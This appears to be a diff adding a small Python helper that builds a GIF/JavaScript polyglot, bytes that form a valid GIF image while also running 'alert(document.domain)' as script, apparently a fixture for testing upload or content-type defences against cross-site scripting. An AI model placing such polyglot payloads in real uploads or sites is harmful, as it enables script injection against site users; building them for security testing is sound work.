@@ -1,0 +1,5 @@
+"""A picture that is a script."""
+
+
+def build() -> bytes:
+    return b"GIF89a/*\0\xf0\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;*/=1;alert(document.domain);"
